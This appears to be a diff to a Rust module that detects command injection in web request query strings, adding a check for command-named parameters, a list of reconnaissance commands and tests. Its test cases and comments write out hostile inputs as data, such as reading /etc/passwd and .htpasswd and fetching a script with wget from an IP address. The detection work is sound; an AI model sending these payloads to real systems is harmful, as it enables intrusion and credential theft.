@@ -44,21 +44,40 @@ pub(super) fn is_command_line(query: &str) -> bool {
 /// argument (`ip=127.0.0.1;cat /etc/passwd`, `q=x|sleep 5`). Lists and prose are not:
 /// `fields=name;id;email` (the separator is inside the value, nothing follows the command),
 /// `q=rock; cat power` (a word, not a path, option, number or file).
-///
-/// A parameter named for a command (`cmd=`, `command=`, `exec=`: [`COMMAND_PARAMETERS`]) whose
-/// value is a command line ([`is_command_line`]) is one too: device CGIs that run what they are
-/// given (`setup.cgi?todo=syscmd&cmd=cat /www/.htpasswd`) need no separator. A search for
-/// `uname -a` (`q=`) is not.
 pub(super) fn has_injected_command(query: &str) -> bool {
-    query.split('&').any(|param| match param.split_once('=') {
-        Some((name, value)) => {
-            injects_command(value)
-                || (COMMAND_PARAMETERS.iter().any(|p| p.eq_ignore_ascii_case(name.trim()))
-                    && is_command_line(value))
-        }
-        None => injects_command(param),
+    query
+        .split('&')
+        .map(|param| param.split_once('=').map_or(param, |(_, v)| v))
+        .any(injects_command)
+}
+
+/// Whether a parameter named for a command (`cmd=`, `command=`, `exec=`: [`COMMAND_PARAMETERS`])
+/// holds a command line ([`is_command_line`]): `cmd=cat /www/.htpasswd`. What a web shell or a
+/// device CGI that runs what it is given receives, with no separator; but also what ordinary
+/// command APIs take (Kubernetes' `exec?command=`, Rundeck's `exec=`, a Jenkins job's `CMD=`,
+/// explainshell's `cmd=`), so it is code injection only in a request for a script file
+/// (`probe_class` checks the path: `setup.cgi`, `x.php`). A search for `uname -a` (`q=`) is
+/// not one.
+///
+/// A reconnaissance command alone counts too (`cmd=id`, `cmd=whoami`: [`RECON_COMMANDS`], what a
+/// web shell's first request runs), but not other single words (elFinder's connector takes
+/// `cmd=ls`, `cmd=rm`, `cmd=open` for its own operations). `cmd[]=` is `cmd=`.
+pub(super) fn has_command_parameter(query: &str) -> bool {
+    query.split('&').any(|param| {
+        param.split_once('=').is_some_and(|(name, value)| {
+            let name = name.trim().trim_end_matches("[]");
+            COMMAND_PARAMETERS.iter().any(|p| p.eq_ignore_ascii_case(name))
+                && (is_command_line(value)
+                    || RECON_COMMANDS
+                        .iter()
+                        .any(|c| c.eq_ignore_ascii_case(value.trim())))
+        })
     })
 }
+
+/// Commands that only tell an intruder where they are: who the server runs as, on which host,
+/// in which directory.
+const RECON_COMMANDS: &[&str] = &["id", "whoami", "hostname", "pwd", "ifconfig", "uname"];
 
 /// Parameter names that say their value is a command to run.
 const COMMAND_PARAMETERS: &[&str] = &["cmd", "command", "exec", "execute", "shell"];
@@ -170,7 +189,7 @@ fn is_command(word: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::{has_injected_command, is_command_line};
+    use super::{has_command_parameter, has_injected_command, is_command_line};
 
     /// Command lines as router exploits send them, after decoding.
     #[test]
@@ -225,11 +244,38 @@ mod tests {
             "q=x`wget http://198.51.100.1/x`;",
             "q=`cat /etc/passwd`",
             "ip=1.1.1.1; ping -c 3 198.51.100.1",
+        ] {
+            assert!(has_injected_command(q), "{q}");
+        }
+    }
+
+    /// A parameter named for a command holding a command line; not a search, a word, an
+    /// elFinder command (`cmd=ls` lists a folder) or prose.
+    #[test]
+    fn a_command_parameter_holding_a_command_line() {
+        for q in [
             "next_file=netgear.cfg&todo=syscmd&cmd=cat /www/.htpasswd&curpath=/",
             "CMD=uname -a",
             "exec=wget http://198.51.100.1/x.sh",
+            "cmd=id",
+            "cmd[]=whoami",
+            "Cmd= hostname ",
         ] {
-            assert!(has_injected_command(q), "{q}");
+            assert!(has_command_parameter(q), "{q}");
+        }
+        for q in [
+            "q=uname -a",
+            "q=cat /etc/passwd",
+            "cmd=ls&target=l1_Lw",
+            "cmd=open&init=1",
+            "cmd=rm&targets[]=l1_Lw",
+            "cmd=identify",
+            "q=id",
+            "command=echo hello",
+            "cmd",
+            "",
+        ] {
+            assert!(!has_command_parameter(q), "{q}");
         }
     }
 
@@ -268,10 +314,6 @@ mod tests {
             "q=`sleep 5` in script",
             "q=`id` column",
             "q=foo `sleep 10` bar",
-            "q=uname -a",
-            "q=cat /etc/passwd",
-            "cmd=list&page=2",
-            "command=echo hello",
             "",
         ] {
             assert!(!has_injected_command(q), "{q}");
